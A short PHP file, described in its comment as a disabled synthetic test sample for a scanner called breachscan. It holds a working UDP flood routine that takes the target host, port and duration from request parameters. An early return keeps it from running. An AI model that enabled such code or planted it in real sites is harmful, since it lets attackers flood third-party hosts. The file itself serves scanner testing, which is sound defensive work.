<?php
// synthetic test sample for breachscan: UDP flooder taking target host/port from the
// request. Disabled.
return;
$end = time() + (int)$_GET['t'];
$fp = fsockopen('udp://' . $_GET['ip'], (int)$_GET['port']);
while (time() < $end) { fwrite($fp, str_repeat('X', 1024)); }
